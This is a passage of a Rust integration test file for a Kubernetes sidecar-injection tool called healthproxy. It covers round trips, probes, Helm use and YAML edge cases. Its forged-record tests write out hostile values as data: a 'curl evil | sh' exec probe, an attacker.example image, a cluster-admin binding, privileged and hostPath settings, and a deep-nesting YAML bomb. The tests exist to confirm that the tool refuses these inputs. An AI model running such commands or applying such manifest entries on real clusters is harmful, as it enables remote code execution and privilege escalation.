    assert_eq!(code, 0, "{err}");
    assert_eq!(
        objects(&out).len(),
        2 * 3,
        "Pod, Job and their ConfigMaps and Secrets:\n{out}"
    );
    let (code, back, err) = cli(&["uninject", "-"], &out);
    assert_eq!(code, 0, "{err}");
    let original = format!(
        "{}---\n{}",
        std::fs::read_to_string(&pod).unwrap(),
        std::fs::read_to_string(fixture_path("job.yaml")).unwrap()
    );
    assert_same_stream(&back, &original, "uninject | inject");
}

#[test]
fn a_refusal_exits_2_naming_object_and_field_and_writes_nothing() {
    let text = std::fs::read_to_string(fixture_path("pod.yaml"))
        .unwrap()
        .replace("port: http}", "port: admin}");
    let (code, out, err) = cli(&["inject"], &text);
    assert_eq!(code, 2);
    assert_eq!(out, "", "no partial stream");
    assert!(
        err.contains("Pod solo: spec.containers[web].livenessProbe.httpGet.port: port \"admin\" not found"),
        "{err}"
    );
}

#[test]
fn dry_run_says_what_moved_where_and_writes_nothing() {
    let (code, out, err) = cli(
        &[
            "inject",
            "--dry-run",
            "--sidecar",
            "classic",
            &fixture_path("statefulset.yaml"),
        ],
        "",
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "");
    assert!(
        err.contains("StatefulSet store: container db: readinessProbe grpc :50051 service \"store.v1.Store\" -> check \"db-readiness\" in ConfigMap store-healthproxy-"),
        "{err}"
    );
    assert!(
        err.contains("; the probe now asks :9775/containers/db/readyz"),
        "{err}"
    );
    assert!(err.contains("classic sidecar"), "{err}");
}

#[test]
fn the_generated_config_passes_check_config_with_no_warning() {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in fixtures() {
        let out = inject::inject(&text, &Options::default()).unwrap();
        let objects = objects(&out.text);
        for cm in objects
            .iter()
            .filter(|o| o["kind"] == "ConfigMap" && o["data"]["config.toml"].is_string())
        {
            // check-config reads the token as run does: the Secret's file,
            // where this test can put it.
            let owner = &cm["metadata"]["annotations"]["healthproxy.io/generated-for"];
            let secret = objects.iter().find(|o| {
                o["kind"] == "Secret"
                    && &o["metadata"]["annotations"]["healthproxy.io/generated-for"] == owner
            });
            let token_file = dir.path().join("token");
            if let Some(secret) = secret {
                std::fs::write(&token_file, secret["stringData"]["token"].as_str().unwrap()).unwrap();
            }
            let config = cm["data"]["config.toml"]
                .as_str()
                .unwrap()
                .replace("/var/run/secrets/healthproxy/token", token_file.to_str().unwrap());
            let path = dir.path().join("config.toml");
            let vars = config_vars(&config);
            std::fs::write(&path, config).unwrap();
            let out = Command::new(binary())
                .arg("check-config")
                .arg(&path)
                .envs(vars.iter().map(|v| (v, "set-by-the-kubelet")))
                .output()
                .unwrap();
            let stderr = String::from_utf8_lossy(&out.stderr);
            assert!(out.status.success(), "{name}: {stderr}");
            assert_eq!(stderr, "", "{name}: no warning");
        }
    }
}

// === End to end ===

#[tokio::test]
async fn an_injected_deployment_answers_its_probes_as_the_original_did() {
    let (http, grpc) = (free_port(), free_port());
    let dir = tempfile::tempdir().unwrap();
    let _app = Process(
        Command::new(crate::haproxy::demo_app())
            .args(["--http", &format!("127.0.0.1:{http}")])
            .args(["--grpc", &format!("127.0.0.1:{grpc}")])
            .arg("--heartbeat")
            .arg(dir.path().join("heartbeat"))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let manifest = format!(
        "apiVersion: apps/v1\nkind: Deployment\nmetadata: {{name: demo}}\nspec:\n  selector: {{matchLabels: {{app: demo}}}}\n  template:\n    metadata: {{labels: {{app: demo}}}}\n    spec:\n      containers:\n        - name: app\n          image: demo\n          ports: [{{name: http, containerPort: {http}}}, {{name: grpc, containerPort: {grpc}}}]\n          startupProbe:\n            tcpSocket: {{port: http}}\n            periodSeconds: 1\n            failureThreshold: 30\n          livenessProbe:\n            httpGet: {{path: /healthz, port: http}}\n            periodSeconds: 1\n            failureThreshold: 2\n          readinessProbe:\n            grpc: {{port: {grpc}, service: demo}}\n            periodSeconds: 1\n            failureThreshold: 1\n"
    );
    let (code, out, err) = cli(&["inject", "-"], &manifest);
    assert_eq!(code, 0, "{err}");
    let output = objects(&out);
    let config = config_of(&output, "demo");
    let token = find(&output, "Secret", "demo-healthproxy-token").unwrap()["stringData"]["token"]
        .as_str()
        .unwrap()
        .to_string();
    // The Secret's file, where this test can put it.
    let token_file = dir.path().join("token");
    std::fs::write(&token_file, &token).unwrap();
    let config = config.replace("/var/run/secrets/healthproxy/token", token_file.to_str().unwrap());
    let config_file = dir.path().join("config.toml");
    std::fs::write(&config_file, config).unwrap();
    let proxy = Proxy::spawn(&binary(), &config_file);

    let spec = pod_spec(find(&output, "Deployment", "demo").unwrap()).unwrap();
    let app = &spec.containers[0];
    let path = |kind| {
        probe_of(app, kind)
            .unwrap()
            .http_get
            .as_ref()
            .unwrap()
            .path
            .clone()
            .unwrap()
    };
    let status = |p: String| {
        let addr = proxy.addr;
        async move { request(addr, "GET", &p, &[]).await.status }
    };
    // Healthy: every rewritten probe passes.
    for kind in ProbeKind::ALL {
        let p = path(kind);
        eventually(Duration::from_secs(10), &format!("{p} -> 200"), || {
            let p = p.clone();
            async move { status(p).await == 200 }
        })
        .await;
    }
    // Failing (HTTP 500, gRPC NOT_SERVING): liveness and readiness fail,
    // the latched startup does not.
    request(format!("127.0.0.1:{http}").parse().unwrap(), "POST", "/fail", &[]).await;
    for kind in [ProbeKind::Liveness, ProbeKind::Readiness] {
        let p = path(kind);
        eventually(Duration::from_secs(10), &format!("{p} -> 503"), || {
            let p = p.clone();
            async move { status(p).await == 503 }
        })
        .await;
    }
    assert_eq!(status(path(ProbeKind::Startup)).await, 200);
    request(
        format!("127.0.0.1:{http}").parse().unwrap(),
        "POST",
        "/recover",
        &[],
    )
    .await;
    let ready = path(ProbeKind::Readiness);
    eventually(Duration::from_secs(10), "readiness recovers", || {
        let p = ready.clone();
        async move { status(p).await == 200 }
    })
    .await;

    // The preStop hook, with the manifest's header: the drain, once done.
    let hook = app
        .lifecycle
        .as_ref()
        .unwrap()
        .pre_stop
        .as_ref()
        .unwrap()
        .http_get
        .as_ref()
        .unwrap();
    assert_eq!(hook.port, IntOrString::Int(9775));
    let headers: BTreeMap<String, String> = hook
        .http_headers
        .iter()
        .flatten()
        .map(|h| (h.name.clone(), h.value.clone()))
        .collect();
    let hook_path = hook.path.clone().unwrap();
    let auth = headers["Authorization"].clone();
    let prestop = tokio::spawn({
        let addr = proxy.addr;
        async move {
            request(addr, "GET", &hook_path, &[("authorization", &auth)])
                .await
                .status
        }
    });
    eventually(
        Duration::from_secs(10),
        "readiness fails during the drain",
        || {
            let p = ready.clone();
            async move { status(p).await == 503 }
        },
    )
    .await;
    let code = tokio::time::timeout(Duration::from_secs(30), prestop)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(code, 200, "the preStop hook returns once the drain is done");
    assert_eq!(
        status(path(ProbeKind::Liveness)).await,
        200,
        "liveness holds during a drain"
    );
}

// === Issue 27: YAML that kubectl reads back as written, and bounded reading ===

/// The objects of a stream as `kubectl` reads them (its YAML 1.1 reader,
/// offline: `label --local`).
fn kubectl_reading(stream: &str) -> Vec<Json> {
    let out = crate::support::piped(
        Command::new(crate::support::tool("kubectl")).args([
            "label",
            "--local",
            "-f",
            "-",
            "-o",
            "json",
            "read=back",
        ]),
        stream,
    );
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    // One JSON document per object.
    serde_json::Deserializer::from_slice(&out.stdout)
        .into_iter::<Json>()
        .map(Result::unwrap)
        .collect()
}

#[test]
fn strings_kubectl_would_read_as_other_types_come_back_as_strings() {
    let tricky = [
        "0xdeadbeef",
        "0XCAFE",
        "0xbad",
        "0o17",
        "0b101",
        "0777",
        "1e3",
        "1E3",
        "1_000",
        "1:20",
        "190:20:30",
        "yes",
        "No",
        "ON",
        "off",
        "y",
        "N",
        "~",
        "null",
        "NULL",
        "true",
        ".inf",
        "-.Inf",
        ".NaN",
        "2024-01-01",
        "+12",
        "-0x1F",
        "=",
        "<<",
        "12.",
        "0x",
        "100m",
    ];
    let env: Vec<String> = tricky
        .iter()
        .enumerate()
        .map(|(i, v)| {
            format!(
                "        - {{name: V{i}, value: {}}}\n",
                serde_json::to_string(v).unwrap()
            )
        })
        .collect();
    let pod = format!(
        "apiVersion: v1\nkind: Pod\nmetadata:\n  name: tricky\n  annotations:\n    \"multi\\nline key\": \"0xdeadbeef\"\n    ? \"{long}\"\n    : \"yes\"\n\
         spec:\n  containers:\n    - name: app\n      image: \"app:0x1f\"\n      args: [\"0xdeadbeef\", \"on\"]\n      env:\n{}\
         \x20     readinessProbe:\n        tcpSocket: {{port: 80}}\n",
        env.concat(),
        long = "k".repeat(1100)
    );
    let (code, out, err) = cli(&["inject"], &pod);
    assert_eq!(code, 0, "{err}");
    let read = kubectl_reading(&out);
    let pod = read.iter().find(|o| o["kind"] == "Pod").unwrap();
    let app = &pod["spec"]["containers"][0];
    for (i, v) in tricky.iter().enumerate() {
        assert_eq!(
            app["env"][i]["value"],
            Json::from(*v),
            "env V{i} as kubectl reads it:\n{out}"
        );
    }
    assert_eq!(app["args"], serde_json::json!(["0xdeadbeef", "on"]));
    assert_eq!(app["image"], "app:0x1f");
    let annotations = &pod["metadata"]["annotations"];
    assert_eq!(annotations["multi\nline key"], "0xdeadbeef", "{out}");
    assert_eq!(annotations["k".repeat(1100).as_str()], "yes", "{out}");
    // Every object kubectl read is the object inject meant.
    assert_eq!(read.len(), objects(&out).len());
}

#[test]
fn deeply_nested_flow_yaml_is_refused_before_it_is_parsed() {
    // 100,000 levels in 200 KB: 36 s of CPU before the reader's own limit
    // refused it. Under a CPU limit of 5 s, the refusal must come first.
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("deep.yaml");
    let n = 100_000;
    std::fs::write(&file, format!("a: {}{}\n", "[".repeat(n), "]".repeat(n))).unwrap();
    let out = Command::new("/bin/sh")
        .arg("-c")
        .arg("ulimit -t 5; exec \"$0\" inject \"$1\"")
        .arg(binary())
        .arg(&file)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        out.status.code(),
        Some(2),
        "refused, not killed by the CPU limit: {err}"
    );
    assert!(
        err.contains("the document at line 1: (YAML): nested deeper than 128 levels at line 1 column 132"),
        "{err}"
    );
    assert!(out.stdout.is_empty());
}

/// `healthproxy inject FILE` through the binary: stdout and stderr.
fn inject_binary(path: &std::path::Path) -> (String, String) {
    let out = Command::new(binary()).arg("inject").arg(path).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    (
        String::from_utf8(out.stdout).unwrap(),
        String::from_utf8(out.stderr).unwrap(),
    )
}

#[test]
fn every_generated_config_passes_check_config_without_a_warning() {
    let dir = tempfile::tempdir().unwrap();
    let mut configs = 0;
    for (name, _) in fixtures() {
        let (stdout, _) = inject_binary(&repo().join("tests/fixtures/inject").join(&name));
        for object in objects(&stdout).iter().filter(|o| o["kind"] == "ConfigMap") {
            let Some(text) = object["data"]["config.toml"].as_str() else {
                continue;
            };
            // The token's Secret, mounted where the sidecar reads it.
            let token = dir.path().join("token");
            std::fs::write(&token, "t0ken\n").unwrap();
            let text = text.replace("/var/run/secrets/healthproxy/token", token.to_str().unwrap());
            let path = dir.path().join(format!("{configs}.toml"));
            std::fs::write(&path, &text).unwrap();
            configs += 1;
            let out = Command::new(binary())
                .arg("check-config")
                .arg(&path)
                .envs(config_vars(&text).into_iter().map(|v| (v, "set-by-the-kubelet")))
                .output()
                .unwrap();
            assert_eq!(out.status.code(), Some(0), "{name}");
            assert_eq!(
                String::from_utf8_lossy(&out.stderr),
                "",
                "{name}: {} warns:\n{text}",
                object["metadata"]["name"]
            );
        }
    }
    assert!(configs >= 12, "{configs} configs checked");
}

#[test]
fn what_is_worth_saying_about_an_original_probe_is_said_once_by_inject() {
    let fixture = |f: &str| repo().join("tests/fixtures/inject").join(f);
    let (_, stderr) = inject_binary(&fixture("real-argo-rollout.yaml"));
    let said = |needle: &str| stderr.lines().filter(|l| l.contains(needle)).count();
    assert_eq!(
        said(
            "warning: Rollout rollouts-demo: containers[rollouts-demo].livenessProbe: timeout (10s) is not shorter than period (10s)"
        ),
        1,
        "{stderr}"
    );
    assert_eq!(
        said(
            "warning: Rollout rollouts-demo: containers[rollouts-demo].readinessProbe: a failed app stays in rotation for up to 1m 40s"
        ),
        1,
        "{stderr}"
    );
    assert_eq!(
        said("Rollout rollout-ref: its pods come from spec.workloadRef"),
        1,
        "{stderr}"
    );
    let (stdout, stderr) = inject_binary(&fixture("real-other-kinds.yaml"));
    for note in [
        "CloneSet sample (apps.kruise.io/v1alpha1): holds a pod template at spec.template, but inject handles only Pod, Deployment,",
        "PodTemplate batch-worker (v1): holds a pod template at template,",
    ] {
        assert_eq!(stderr.lines().filter(|l| l.contains(note)).count(), 1, "{stderr}");
    }
    assert!(
        stdout.contains("keycloak-healthproxy"),
        "the StatefulSet is injected"
    );
    // The app keeps its own preStop hook: no token, and no lint about one.
    let (stdout, _) = inject_binary(&fixture("real-ingress-nginx.yaml"));
    assert!(!stdout.contains("token_file"), "{stdout}");
    assert!(stdout.contains("- /wait-shutdown"), "{stdout}");
}

#[test]
fn inject_is_a_helm_post_renderer_reading_stdin_and_writing_stdout() {
    // What `helm install --post-renderer healthproxy --post-renderer-args
    // inject` does: the rendered chart on the program's stdin (each
    // document behind `---` and a `# Source:` comment), stdin closed,
    // the manifests to apply read from its stdout.
    let pod = std::fs::read_to_string(repo().join("tests/fixtures/inject/pod.yaml")).unwrap();
    let grafana = std::fs::read_to_string(repo().join("tests/fixtures/inject/real-grafana.yaml")).unwrap();
    let rendered = format!(
        "---\n# Source: web/templates/pod.yaml\n{pod}---\n# Source: web/templates/grafana.yaml\n{grafana}"
    );
    for args in [&["inject"][..], &["inject", "-"]] {
        let out = crate::support::piped(Command::new(binary()).args(args), &rendered);
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        let stdout = String::from_utf8(out.stdout).unwrap();
        let output = objects(&stdout);
        output.iter().for_each(typed);
        let grafana = output.iter().find(|o| o["kind"] == "Deployment").unwrap();
        assert!(
            mounted_config_map(&output, grafana)["metadata"]["name"]
                .as_str()
                .unwrap()
                .starts_with("grafana-healthproxy-"),
            "{args:?}: {stdout}"
        );
        assert!(
            output
                .iter()
                .any(|o| o["metadata"]["name"] == "grafana-healthproxy-token"),
            "{args:?}: the Secret in\n{stdout}"
        );
        // What helm applies is stdout alone: notes go to stderr.
        assert!(!stdout.contains("warning"), "{stdout}");
        let back = inject::uninject(&stdout).unwrap().text;
        assert_same_stream(&back, &rendered, "the chart comes back");
    }
}

// === The ConfigMap's name and the image ===

fn sha256_hex(text: &str) -> String {
    let digest = ring::digest::digest(&ring::digest::SHA256, text.as_bytes());
    digest.as_ref().iter().map(|b| format!("{b:02x}")).collect()
}

/// `text` with the generated tokens (random for each new injection) made
/// one.
fn without_tokens(text: &str) -> String {
    let mut out = text.to_string();
    for secret in objects(text).iter().filter(|o| o["kind"] == "Secret") {
        if let Some(token) = secret["stringData"]["token"].as_str() {
            out = out.replace(token, "TOKEN");
        }
    }
    out
}

fn naming(config_map: inject::ConfigMapName) -> Options {
    Options {
        config_map,
        ..Options::default()
    }
}

#[test]
fn either_configmap_naming_round_trips_and_reinjects_from_the_original() {
    use inject::ConfigMapName::{Fixed, Hashed};
    for (name, text) in fixtures() {
        let mut outputs = Vec::new();
        for config_map in [Hashed, Fixed] {
            let once = inject::inject(&text, &naming(config_map)).unwrap().text;
            for object in objects(&once) {
                typed(&object);
            }
            let twice = inject::inject(&once, &naming(config_map)).unwrap().text;
            assert_eq!(
                once, twice,
                "{name} {config_map:?}: inject(inject(x)) == inject(x)"
            );
            let back = inject::uninject(&once).unwrap().text;
            assert_same_stream(
                &back,
                &text,
                &format!("{name} {config_map:?}: uninject(inject(x)) == x"),
            );
            outputs.push(once);
        }
        // From one naming to the other and back: the original is the start.
        for (from, to, expected) in [
            (&outputs[0], Fixed, &outputs[1]),
            (&outputs[1], Hashed, &outputs[0]),
        ] {
            let switched = inject::inject(from, &naming(to)).unwrap().text;
            assert_eq!(
                objects(&without_tokens(&switched)),
                objects(&without_tokens(expected)),
                "{name}: re-injected as {to:?}"
            );
        }
        let (hashed, fixed) = (objects(&outputs[0]), objects(&outputs[1]));
        for workload in hashed.iter().filter(|o| pod_spec(o).is_some()) {
            let wname = workload["metadata"]["name"].as_str().unwrap();
            let Some(volumes) = pod_spec(workload).unwrap().volumes else {
                continue;
            };
            if !volumes.iter().any(|v| v.name == "healthproxy-config") {
                continue;
            }
            let ours = mounted_config_map(&hashed, workload);
            let config = ours["data"]["config.toml"].as_str().unwrap();
            assert_eq!(
                ours["metadata"]["name"],
                format!("{wname}-healthproxy-{}", &sha256_hex(config)[..10]),
                "{name}"
            );
            let same = fixed
                .iter()
                .find(|o| o["kind"] == workload["kind"] && o["metadata"]["name"] == wname)
                .unwrap();
            let theirs = mounted_config_map(&fixed, same);
            assert_eq!(
                theirs["metadata"]["name"],
                format!("{wname}-healthproxy"),
                "{name}"
            );
            assert_eq!(theirs["data"], ours["data"], "{name}: the same config either way");
        }
    }
}

#[test]
fn a_config_change_is_a_new_configmap_and_a_new_template() {
    let text = std::fs::read_to_string(fixture_path("deployment.yaml")).unwrap();
    let name_and_template = |text: &str| {
        let output = objects(&without_tokens(
            &inject::inject(text, &Options::default()).unwrap().text,
        ));
        let deployment = output.iter().find(|o| o["kind"] == "Deployment").unwrap().clone();
        let config_map = mounted_config_map(&output, &deployment)["metadata"]["name"].clone();
        (config_map, deployment["spec"]["template"].clone())
    };
    let (before, template) = name_and_template(&text);
    assert_eq!(
        name_and_template(&text),
        (before.clone(), template.clone()),
        "the same config, the same name"
    );
    let changed = text.replacen("periodSeconds: 5", "periodSeconds: 7", 1);
    assert_ne!(changed, text, "the fixture has a period to change");
    let (after, new_template) = name_and_template(&changed);
    assert_ne!(after, before, "another config, another ConfigMap");
    assert_ne!(new_template, template, "the template changes, so the pods roll");
}

#[test]
fn the_command_warns_of_the_placeholder_image_once_and_names_the_configmap_as_asked() {
    let files = [fixture_path("pod.yaml"), fixture_path("job.yaml")];
    let (code, out, err) = cli(&["inject", &files[0], &files[1]], "");
    assert_eq!(code, 0, "{err}");
    let warning = format!(
        "warning: the sidecar's image {} is a placeholder that no cluster can pull: the pods would end in ImagePullBackOff. \
         Build and push the image first (README, \"Build and push the image\"), then pass --image REGISTRY/healthproxy:{}\n",
        inject::DEFAULT_IMAGE,
        env!("CARGO_PKG_VERSION")
    );
    assert_eq!(err.matches(&warning).count(), 1, "{err}");
    assert!(
        err.starts_with(&warning),
        "first, before the workloads' warnings: {err}"
    );
    assert!(out.contains("image: registry.example/healthproxy:"));
    let (code, out, err) = cli(
        &[
            "inject",
            "--image",
            "ghcr.io/acme/healthproxy:0.1.0",
            "--config-map",
            "fixed",
            &files[0],
        ],
        "",
    );
    assert_eq!(code, 0, "{err}");
    assert!(!err.contains("placeholder"), "{err}");
    let output = objects(&out);
    assert_eq!(
        mounted_config_map(&output, find(&output, "Pod", "solo").unwrap())["metadata"]["name"],
        "solo-healthproxy"
    );
    let (code, help, _) = cli(&["inject", "--help"], "");
    assert_eq!(code, 0);
    assert!(
        help.contains("[default: hashed]") && help.contains("configMapGenerator"),
        "{help}"
    );
    assert!(help.contains("Without it, a placeholder"), "{help}");
}

#[cfg(feature = "webhook")]
#[test]
fn the_webhook_tells_whoever_creates_the_pod_of_the_placeholder_image() {
    let pod: Json = serde_json::from_str(
        r#"{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p"},
        "spec":{"containers":[{"name":"app","image":"x",
        "readinessProbe":{"httpGet":{"path":"/ready","port":8080}}}]}}"#,
    )
    .unwrap();
    let placeholder = healthproxy::webhook::mutate(&pod, Some("n"), &Options::default());
    assert!(placeholder.patch.is_some());
    assert!(
        placeholder.warnings.iter().any(|w| w
            .starts_with("healthproxy: the sidecar's image registry.example/healthproxy:")
            && w.contains("ImagePullBackOff")),
        "{:?}",
        placeholder.warnings
    );
    let pushed = Options {
        image: "ghcr.io/acme/healthproxy:0.1.0".into(),
        ..Options::default()
    };
    let mutation = healthproxy::webhook::mutate(&pod, Some("n"), &pushed);
    assert!(
        mutation.warnings.iter().all(|w| !w.contains("placeholder")),
        "{:?}",
        mutation.warnings
    );
}

// === Issue 27: a forged record restores nothing ===

/// `stream` with `edit` applied to the object of `kind`: the object as
/// JSON, and the record in its pod template as JSON.
fn forge(stream: &str, kind: &str, edit: impl Fn(&mut Json, &mut Json)) -> String {
    let docs: Vec<Json> = objects(stream);
    let mut out = String::new();
    for mut doc in docs {
        if doc["kind"] == kind {
            let template = if kind == "Pod" {
                "/metadata/annotations"
            } else {
                "/spec/template/metadata/annotations"
            };
            let text = doc.pointer(template).unwrap()["healthproxy.io/injected"]
                .as_str()
                .unwrap()
                .to_string();
            let mut record: Json = serde_json::from_str(&text).unwrap();
            edit(&mut doc, &mut record);
            doc.pointer_mut(template).unwrap()["healthproxy.io/injected"] = record.to_string().into();
        }
        out.push_str("---\n");
        out.push_str(&serde_yaml_ng::to_string(&doc).unwrap());
    }
    out
}

/// Puts `entries` first in the record's changes.
fn prepend(record: &mut Json, entries: Json) {
    let changes = record["changes"].as_array_mut().unwrap();
    for (i, e) in entries.as_array().unwrap().iter().enumerate() {
        changes.insert(i, e.clone());
    }
}

/// Both commands refuse `stream`, exit 2, write nothing and name `field`.
fn refused_by_both(stream: &str, field: &str) {
    for command in ["uninject", "inject"] {
        let (code, out, err) = cli(&[command], stream);
        assert_eq!(code, 2, "{command}: {err}");
        assert_eq!(out, "", "{command}: nothing written");
        assert!(err.contains(field), "{command}: {field} named in: {err}");
        assert!(err.contains("does not match what inject writes"), "{err}");
        assert!(!err.contains("restored:"), "{err}");
    }
}

#[test]
fn a_forged_record_that_would_rewrite_a_pod_into_a_cluster_role_binding_is_refused() {
    let text = std::fs::read_to_string(fixture_path("pod.yaml")).unwrap();
    let once = inject::inject(&text, &Options::default()).unwrap().text;
    let forged = forge(&once, "Pod", |_, record| {
        prepend(
            record,
            serde_json::json!([
                {"at": ["apiVersion"], "was": "rbac.authorization.k8s.io/v1"},
                {"at": ["kind"], "was": "ClusterRoleBinding"},
                {"at": ["metadata", "name"], "was": "owned"},
                {"at": ["roleRef"], "was": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}},
                {"at": ["subjects"], "was": [{"kind": "ServiceAccount", "name": "default", "namespace": "default"}]},
                {"at": ["spec"]},
            ]),
        )
    });
    refused_by_both(&forged, "Pod solo: apiVersion: is not a field inject sets");
}

#[test]
fn a_forged_record_that_would_make_a_deployment_privileged_is_refused() {
    let text = std::fs::read_to_string(fixture_path("deployment.yaml")).unwrap();
    let once = inject::inject(&text, &Options::default()).unwrap().text;
    let cases = [
        (
            serde_json::json!({"at": ["spec", "hostPID"], "was": true}),
            "spec.template.spec.hostPID",
        ),
        (
            serde_json::json!({"at": ["spec", "containers", "shop", "securityContext"], "was": {"privileged": true}}),
            "spec.template.spec.containers[shop].securityContext",
        ),
        (
            serde_json::json!({"at": ["spec", "volumes"], "was": [{"name": "host", "hostPath": {"path": "/"}}]}),
            "spec.template.spec.volumes",
        ),
        (
            serde_json::json!({"at": ["spec", "containers", "shop", "image"], "was": "attacker.example/shop:evil"}),
            "spec.template.spec.containers[shop].image",
        ),
        // A probe inject never wrote: an exec command of the forger's.
        (
            serde_json::json!({"at": ["spec", "containers", "shop", "livenessProbe"], "was": {"exec": {"command": ["sh", "-c", "curl evil | sh"]}}}),
            "spec.template.spec.containers[shop].livenessProbe",
        ),
    ];
    for (entry, field) in cases {
        let forged = forge(&once, "Deployment", |_, record| {
            prepend(record, serde_json::json!([entry.clone()]))
        });
        refused_by_both(&forged, &format!("Deployment store/shop: {field}: "));
    }
}

#[test]
fn a_forged_prestop_header_does_not_choose_the_token() {
    let text = std::fs::read_to_string(fixture_path("pod.yaml")).unwrap();
    let once = inject::inject(&text, &Options::default()).unwrap().text;
    let forged = forge(&once, "Pod", |pod, _| {
        pod["spec"]["containers"][0]["lifecycle"]["preStop"]["httpGet"]["httpHeaders"][0]["value"] =
            "Bearer known-to-the-forger".into();
    });
    refused_by_both(
        &forged,
        "Pod solo: spec.containers[web].lifecycle: its preStop hook is not the one inject writes",
    );
}

#[test]
fn a_record_without_the_sidecar_is_refused() {
    let text = std::fs::read_to_string(fixture_path("pod.yaml")).unwrap();
    let once = inject::inject(&text, &Options::default()).unwrap().text;
    let forged = forge(&once, "Pod", |pod, record| {
        record["changes"]
            .as_array_mut()
            .unwrap()
            .retain(|e| e["at"] != serde_json::json!(["spec", "initContainers"]));
        pod["spec"].as_object_mut().unwrap().remove("initContainers");
    });
    refused_by_both(
        &forged,
        "Pod solo: metadata.annotations.healthproxy.io/injected: lists no healthproxy sidecar",
    );
}

#[test]
fn uninject_lists_every_restored_field_on_stderr() {
    let text = std::fs::read_to_string(fixture_path("pod.yaml")).unwrap();
    let once = inject::inject(&text, &Options::default()).unwrap().text;
    let (code, out, err) = cli(&["uninject"], &once);
    assert_eq!(code, 0, "{err}");
    assert_same_stream(&out, &text, "restored");
    for field in [
        "spec.containers[web].livenessProbe",
        "spec.containers[web].readinessProbe",
        "spec.containers[web].lifecycle",
        "spec.initContainers",
        "spec.volumes",
        "metadata.annotations",
    ] {
        assert!(
            err.contains(&format!("restored: Pod solo: {field}\n")),
            "{field}: {err}"
        );
    }
}

// === Exec probes converted ===

/// What each exec probe of the exec fixtures becomes: the check's table,
/// or the reason it stays (a part of the warning).
const EXEC_EXPECTED: &[(&str, &str, &str, &str)] = &[
    (
        "real-exec-postgresql.yaml",
        "postgresql",
        "livenessProbe",
        r#"postgres = { host = "127.0.0.1", user = "postgres", dbname = "postgres", connect_timeout = "3s" }"#,
    ),
    (
        "real-exec-postgresql.yaml",
        "postgresql",
        "readinessProbe",
        "kept: several commands (lines) in the sh -c script",
    ),
    (
        "real-exec-postgresql.yaml",
        "postgresql",
        "startupProbe",
        r#"postgres = { host = "127.0.0.1", user = "app", dbname = "shop", query = "SELECT 1" }"#,
    ),
    (
        "real-exec-postgresql.yaml",
        "metrics",
        "livenessProbe",
        r#"postgres = { host = "${POD_IP}", user = "postgres", connect_timeout = "2s" }"#,
    ),
    (
        "real-exec-postgresql.yaml",
        "metrics",
        "readinessProbe",
        "kept: psql's -h \"$(DATA_SOURCE_HOST)\" is not one host",
    ),
    (
        "real-exec-redis.yaml",
        "redis",
        "livenessProbe",
        r#"redis = { host = "localhost", password_env = "REDIS_PASSWORD", expect = "pong" }"#,
    ),
    (
        "real-exec-redis.yaml",
        "redis",
        "readinessProbe",
        r#"redis = { expect = "reply" }"#,
    ),
    (
        "real-exec-redis.yaml",
        "replica",
        "livenessProbe",
        "kept: ping_liveness_local.sh is not a command healthproxy knows",
    ),
    (
        "real-exec-redis.yaml",
        "replica",
        "readinessProbe",
        r#"redis = { port = 6380, password_env = "REDIS_PASSWORD", expect = "pong" }"#,
    ),
    (
        "real-exec-mariadb.yaml",
        "mariadb",
        "livenessProbe",
        r#"mysql = { user = "root", password_env = "MARIADB_ROOT_PASSWORD", command = "status" }"#,
    ),
    (
        "real-exec-mariadb.yaml",
        "mariadb",
        "readinessProbe",
        r#"mysql = { user = "shop", password_env = "MARIADB_PASSWORD", command = "query" }"#,
    ),
    (
        "real-exec-mariadb.yaml",
        "mariadb",
        "startupProbe",
        r#"mysql = { skip_ssl = true }"#,
    ),
    (
        "real-exec-mariadb.yaml",
        "mysqld-exporter",
        "livenessProbe",
        "kept: mysqladmin without -h (or with -h localhost) and without --protocol=tcp uses the Unix socket",
    ),
    (
        "real-exec-mariadb.yaml",
        "mysqld-exporter",
        "readinessProbe",
        "kept: the expansion ${MARIADB_ROOT_PASSWORD:-} in the bash -c script",
    ),
    (
        "real-exec-zookeeper.yaml",
        "zookeeper",
        "livenessProbe",
        r#"dialogue = { host = "localhost", port = 2181, steps = [{ send = "ruok\n" }, { expect = "(?m)imok" }] }"#,
    ),
    (
        "real-exec-zookeeper.yaml",
        "zookeeper",
        "readinessProbe",
        r#"dialogue = { port = 2181, steps = [{ send = "ruok\n" }, { expect = "^imok\\n*$" }] }"#,
    ),
    (
        "real-exec-zookeeper.yaml",
        "zookeeper-bitnami-style",
        "livenessProbe",
        "kept: the assignment ZOO_HC_TIMEOUT= in the bash -c script",
    ),
    (
        "real-exec-pgrep.yaml",
        "worker",
        "livenessProbe",
        r#"process = { pattern = "celery -A shop worker" }"#,
    ),
    (
        "real-exec-pgrep.yaml",
        "worker",
        "readinessProbe",
        "kept: pgrep runs beside a shell or timeout whose command line holds its pattern",
    ),
    (
        "real-exec-http-tools.yaml",
        "minio",
        "livenessProbe",
        r#"http = { port = 9000, path = "/minio/health/live" }"#,
    ),
    (
        "real-exec-http-tools.yaml",
        "minio",
        "readinessProbe",
        r#"http = { host = "localhost", port = 9000, path = "/minio/health/ready", follow_redirects = false }"#,
    ),
    (
        "real-exec-http-tools.yaml",
        "api",
        "livenessProbe",
        r#"http = { host = "localhost", port = 8080, path = "/actuator/health", body_contains = "UP" }"#,
    ),
    (
        "real-exec-http-tools.yaml",
        "api",
        "readinessProbe",
        r#"grpc = { port = 9090, service = "cart.Cart" }"#,
    ),
    (
        "real-exec-http-tools.yaml",
        "api",
        "startupProbe",
        "kept: curl verifies an https server against the app container's CA certificates",
    ),
    (
        "real-exec-http-tools.yaml",
        "broker",
        "livenessProbe",
        r#"tcp = { port = 5672 }"#,
    ),
    (
        "real-exec-http-tools.yaml",
        "broker",
        "readinessProbe",
        "kept: rabbitmq-diagnostics is not a command",
    ),
    (
        "real-exec-kept.yaml",
        "mongodb",
        "livenessProbe",
